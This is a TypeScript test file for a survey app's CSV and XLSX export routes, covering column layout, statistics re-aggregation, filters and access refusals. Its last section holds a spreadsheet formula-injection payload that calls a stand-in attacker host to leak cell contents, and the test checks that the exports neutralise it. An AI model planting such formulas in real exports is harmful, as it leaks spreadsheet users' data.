import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadScope, topicPage } from '../app/models/aggregation.server';
import { loader as csvLoader } from '../app/routes/api.v1.rounds.$roundId.export[.csv]';
import { loader as xlsxLoader } from '../app/routes/api.v1.rounds.$roundId.export[.xlsx]';
import { loader as overviewLoader } from '../app/routes/review.rounds.$roundId[.csv]';
import { createRound } from '../app/models/rounds.server';
import { buildAggregationFixture, writeResponse, type AggregationFixture } from './helpers/aggregation-fixtures';
import { useTestDatabase, type TestDatabase } from './helpers/db';
import { callRoute, createTeam, sessionHeadersByName } from './helpers/factories';

let test: TestDatabase;
let f: AggregationFixture;
let headers: Record<string, Record<string, string>>;
beforeAll(async () => {
  test = await useTestDatabase();
  f = await buildAggregationFixture(test.db);
  headers = await sessionHeadersByName(test.db, { reviewer: f.users.reviewer, north: f.users.northReviewer, manager: f.users.manager });
});
afterAll(() => test.destroy());

async function csv(roundId: number, query: string, who = 'reviewer') {
  const response = (await callRoute(csvLoader, `/api/v1/rounds/${roundId}/export.csv?${query}`, {
    headers: headers[who],
    params: { roundId: String(roundId) },
  })) as Response;
  return response;
}

async function records(roundId: number, query: string, who = 'reviewer'): Promise<Record<string, string>[]> {
  const response = await csv(roundId, query, who);
  expect(response.status).toBe(200);
  const bytes = Buffer.from(await response.arrayBuffer());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 byte-order mark, for spreadsheet programs
  return parse(bytes, { columns: true, bom: true, skip_empty_lines: true });
}

/** percentile_cont by hand, for re-aggregating the export. */
function quantile(values: number[], p: number) {
  const sorted = [...values].sort((a, b) => a - b);
  const position = p * (sorted.length - 1);
  const low = Math.floor(position);
  return sorted[low] + (sorted[Math.min(low + 1, sorted.length - 1)] - sorted[low]) * (position - low);
}

describe('CSV exports', () => {
  it('wide: one row per submitted team, one column per question or matrix cell, in area and team order', async () => {
    const rows = await records(f.rounds.phase1.id, 'form=wide');
    expect(rows.map((r) => r.team_name)).toEqual(['Alpha Duty', 'Bravo CP', 'Charlie Duty', 'Delta CP']);
    const alpha = rows[0];
    expect(alpha).toMatchObject({
      round_name: 'Phase 1',
      area_name: 'North',
      registered_team_type: 'duty-initial-assessment',
      response_status: 'submitted',
      questionnaire: 'team-self-assessment',
      questionnaire_version: '1',
      team_type: 'duty-initial-assessment', // the team's own answer to the question team_type
    });
    expect(alpha.establishment_fte).toBe('10');
    expect(alpha.average_caseload).toBe('20');
    expect(alpha['referrals_monthly.2008-12.new_referrals']).toBe('20');
    expect(alpha['referrals_monthly.2008-12.cp_plans_started']).toBe('');
    expect(alpha['practice_consistency.notify_referrer']).toBe('always');
    expect(alpha.threshold_tools).toBe('chin_matrix; caf');
    expect(alpha.nqsw_caseload_protected).toBe('true');
    expect(rows[1].caseload_notes).toBe('Two cases await transfer.');
    // Every column of the codebook is a column of the wide file, in the same order.
    const book = await records(f.rounds.phase1.id, 'form=codebook');
    expect(Object.keys(alpha)).toEqual(book.map((b) => b.column));
    const cell = book.find((b) => b.column === 'referrals_monthly.2008-12.new_referrals')!;
    expect(cell).toMatchObject({
      question: 'referrals_monthly',
      row: '2008-12',
      matrix_column: 'new_referrals',
      version: '1',
      type: 'matrixdropdown',
      value_type: 'numeric',
    });
    expect(cell.topic).toBe('referrals-activity (Referrals and activity)');
    expect(book.find((b) => b.column === 'supervision_frequency')!.choices).toMatch(/^fortnightly=At least every two weeks; monthly=Every month/);
  });

  it('keeps a question’s column when a later version renames it', async () => {
    const phase2 = await records(f.rounds.phase2.id, 'form=wide');
    expect(phase2[0].senior_practitioners).toBe('1.5'); // senior_practitioner_fte in version 2
    expect(Object.keys(phase2[0])).not.toContain('senior_practitioner_fte');
    const book = await records(f.rounds.phase2.id, 'form=codebook');
    expect(book.find((b) => b.column === 'senior_practitioners')).toMatchObject({ question: 'senior_practitioner_fte', version: '2' });
    const long = await records(f.rounds.phase2.id, 'form=long');
    expect(long.find((r) => r.question === 'senior_practitioner_fte' && r.team === 'Alpha Duty')).toMatchObject({
      export_column: 'senior_practitioners',
      value: '1.5',
      version: '2',
    });
  });

  it('long: one row per answer, and it re-aggregates to the same figures as the dashboards', async () => {
    const long = await records(f.rounds.phase1.id, 'form=long');
    expect(Object.keys(long[0])).toEqual([
      'round_id',
      'round',
      'team_id',
      'team',
      'area',
      'team_type',
      'status',
      'questionnaire',
      'version',
      'question',
      'row',
      'column',
      'export_column',
      'topic',
      'value_type',
      'value',
    ]);
    expect(new Set(long.map((r) => r.team))).toEqual(new Set(['Alpha Duty', 'Bravo CP', 'Charlie Duty', 'Delta CP']));
    const scope = (await loadScope(test.db, f.users.reviewer, f.rounds.phase1.id))!;
    for (const topic of ['caseloads', 'staffing-vacancies', 'referrals-activity', 'thresholds', 'supervision']) {
      const page = (await topicPage(test.db, scope, topic))!;
      const mine = long.filter((r) => r.topic === topic);
      for (const q of page.questions) {
        const answers = mine.filter((r) => r.question === q.name);
        if (q.kind === 'numeric') {
          const values = answers.map((r) => Number(r.value));
          if (!q.stats) {
            expect(values).toEqual([]);
            continue;
          }
          expect(values.length, q.name).toBe(q.stats.n);
          expect(
            values.reduce((a, b) => a + b, 0),
            q.name,
          ).toBeCloseTo(q.stats.sum, 9);
          expect(quantile(values, 0.25), q.name).toBeCloseTo(q.stats.q1, 9);
          expect(quantile(values, 0.5), q.name).toBeCloseTo(q.stats.median, 9);
          expect(quantile(values, 0.75), q.name).toBeCloseTo(q.stats.q3, 9);
        } else if (q.kind === 'choice') {
          for (const c of q.choices.counts) expect(answers.filter((r) => r.value === c.value).length, `${q.name}=${c.value}`).toBe(c.count);
          expect(new Set(answers.map((r) => r.team_id)).size).toBe(q.choices.respondents);
        } else if (q.kind === 'text') {
          expect(answers.length).toBe(q.text.total);
        } else if (q.kind === 'matrix') {
          for (const [row, cells] of Object.entries(q.matrix.cells)) {
            for (const [column, cell] of Object.entries(cells)) {
              const values = answers.filter((r) => r.row === row && r.column === column);
              if (cell.kind === 'numeric') {
                expect(values.length).toBe(cell.stats?.n ?? 0);
                if (cell.stats)
                  expect(
                    quantile(
                      values.map((v) => Number(v.value)),
                      0.5,
                    ),
                  ).toBeCloseTo(cell.stats.median, 9);
                if (cell.stats) expect(values.reduce((a, v) => a + Number(v.value), 0)).toBeCloseTo(cell.stats.sum, 9);
              } else if (cell.kind === 'choice') {
                for (const c of cell.choices.counts) expect(values.filter((v) => v.value === c.value).length).toBe(c.count);
              }
            }
          }
        }
      }
    }
    // And the staffing figure computed from the export: vacant / establishment summed over teams.
    const sum = (question: string) => long.filter((r) => r.question === question).reduce((a, r) => a + Number(r.value), 0);
    const staffing = (await topicPage(test.db, scope, 'staffing-vacancies'))!.staffing!;
    expect(sum('vacant_fte') / sum('establishment_fte')).toBeCloseTo(staffing.overall.vacancyRate!, 12);
  });

  it('follows the filters and the caller’s areas', async () => {
    expect((await records(f.rounds.phase1.id, 'form=wide&area=south')).map((r) => r.team_name)).toEqual(['Charlie Duty', 'Delta CP']);
    expect((await records(f.rounds.phase1.id, 'form=wide&teamType=duty-initial-assessment&includeInProgress=true')).map((r) => r.team_name)).toEqual([
      'Alpha Duty',
      'Charlie Duty',
      'Echo Duty',
    ]);
    expect((await records(f.rounds.phase1.id, 'form=wide', 'north')).map((r) => r.team_name)).toEqual(['Alpha Duty', 'Bravo CP']);
    const response = await csv(f.rounds.phase1.id, 'form=long&area=south');
    expect(response.headers.get('Content-Disposition')).toBe(`attachment; filename="stocktake-round-${f.rounds.phase1.id}-phase-1-south-long.csv"`);
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
  });

  it('refuses managers (403), bad parameters (400, naming them) and rounds the caller cannot see (404)', async () => {
    const manager = await csv(f.rounds.phase1.id, 'form=wide', 'manager');
    expect(manager.status).toBe(403);
    expect(manager.headers.get('Content-Type')).toMatch(/application\/problem\+json/);
    for (const [query, parameter] of [
      ['form=tall', 'form'],
      ['area=nowhere', 'area'],
      ['teamType=pirates', 'teamType'],
      ['includeInProgress=perhaps', 'includeInProgress'],
      ['colour=blue', 'colour'],
    ]) {
      const response = await csv(f.rounds.phase1.id, query);
      expect(response.status, query).toBe(400);
      const body = await response.json();
      expect(body.errors[0].path, query).toBe(parameter);
      expect(body.detail, query).toMatch(new RegExp(`^${parameter}:`));
    }
    expect((await csv(f.rounds.elsewhere.id, 'form=wide', 'north')).status).toBe(404);
    expect((await csv(999_999, 'form=wide')).status).toBe(404);
  });
});

describe('XLSX exports', () => {
  async function workbook(query: string) {
    const response = (await callRoute(xlsxLoader, `/api/v1/rounds/${f.rounds.phase1.id}/export.xlsx?${query}`, {
      headers: headers.reviewer,
      params: { roundId: String(f.rounds.phase1.id) },
    })) as Response;
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await response.arrayBuffer()) as unknown as ArrayBuffer);
    return book;
  }

  it('wide with its codebook, numbers as numbers', async () => {
    const book = await workbook('form=wide');
    expect(book.worksheets.map((s) => s.name)).toEqual(['Wide', 'Codebook', 'About']);
    const sheet = book.getWorksheet('Wide')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const column = (name: string) => header.indexOf(name) + 1;
    expect(sheet.rowCount).toBe(5);
    expect(sheet.getRow(2).getCell(column('team_name')).value).toBe('Alpha Duty');
    expect(sheet.getRow(2).getCell(column('average_caseload')).value).toBe(20);
    expect(sheet.getRow(4).getCell(column('vacant_fte')).value).toBe(4);
    const codebook = book.getWorksheet('Codebook')!;
    expect(codebook.rowCount - 1).toBe(header.length);
  });

  it('long', async () => {
    const book = await workbook('form=long&area=north');
    const sheet = book.getWorksheet('Long')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).toContain('export_column');
    const teams = new Set<string>();
    sheet.eachRow((row, n) => {
      if (n > 1) teams.add(String(row.getCell(header.indexOf('team') + 1).value));
    });
    expect([...teams]).toEqual(['Alpha Duty', 'Bravo CP']);
  });

  it('refuses the codebook form (it is a sheet of every workbook)', async () => {
    const response = (await callRoute(xlsxLoader, `/api/v1/rounds/${f.rounds.phase1.id}/export.xlsx?form=codebook`, {
      headers: headers.reviewer,
      params: { roundId: String(f.rounds.phase1.id) },
    })) as Response;
    expect(response.status).toBe(400);
  });
});

describe('every export neutralises text a spreadsheet would run as a formula', () => {
  const HOSTILE = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")';
  let roundId: number;
  beforeAll(async () => {
    const team = await createTeam(test.db, f.areas.elsewhere.id, 'duty-initial-assessment', '+Formula Team');
    const round = await createRound(
      test.db,
      { name: '@Round', questionnaireVersionId: f.rounds.phase1.questionnaire_version_id, dueDate: '2009-01-31', teamIds: [team.id] },
      null,
    );
    roundId = round.id;
    const response = await test.db.selectFrom('responses').select('id').where('round_id', '=', round.id).executeTakeFirstOrThrow();
    await writeResponse(test.db, response.id, { threshold_change: -1, threshold_change_detail: HOSTILE, urgent_actions: '-1 worker since May' }, 'submitted');
  });

  it('in the CSV forms (wide and long) and the overview CSV, numbers left as they are', async () => {
    const [wide] = await records(roundId, 'form=wide');
    expect(wide).toMatchObject({ team_name: "'+Formula Team", round_name: "'@Round", threshold_change_detail: `'${HOSTILE}`, threshold_change: '-1' });
    const long = await records(roundId, 'form=long');
    expect(long.find((r) => r.question === 'threshold_change_detail')?.value).toBe(`'${HOSTILE}`);
    expect(long.find((r) => r.question === 'urgent_actions')?.value).toBe("'-1 worker since May");
    expect(long.find((r) => r.question === 'threshold_change')?.value).toBe('-1');
    const overview = (await callRoute(overviewLoader, `/review/rounds/${roundId}.csv`, {
      headers: headers.reviewer,
      params: { roundId: String(roundId) },
    })) as Response;
    expect(overview.status).toBe(200);
    const rows: string[][] = parse(Buffer.from(await overview.arrayBuffer()), { bom: true });
    expect(rows[1]).toContain("'+Formula Team");
    // Only numbers (the days to the due date, negative once it has passed) may start with a minus sign.
    expect(rows.flat().filter((cell) => /^[=+\-@]/.test(cell) && !Number.isFinite(Number(cell)))).toEqual([]);
  });

  it('in the XLSX workbook', async () => {
    const response = (await callRoute(xlsxLoader, `/api/v1/rounds/${roundId}/export.xlsx?form=wide`, {
      headers: headers.reviewer,
      params: { roundId: String(roundId) },
    })) as Response;
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await response.arrayBuffer()) as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('Wide')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const cell = (name: string) => sheet.getRow(2).getCell(header.indexOf(name) + 1).value;
    expect(cell('team_name')).toBe("'+Formula Team");
    expect(cell('threshold_change_detail')).toBe(`'${HOSTILE}`);
    expect(cell('threshold_change')).toBe(-1);
    const texts: string[] = [];
    for (const sheetOfBook of book.worksheets) sheetOfBook.eachRow((row) => row.eachCell((c) => typeof c.value === 'string' && texts.push(c.value)));
    expect(texts.filter((text) => /^[=+\-@]/.test(text))).toEqual([]);
  });
});
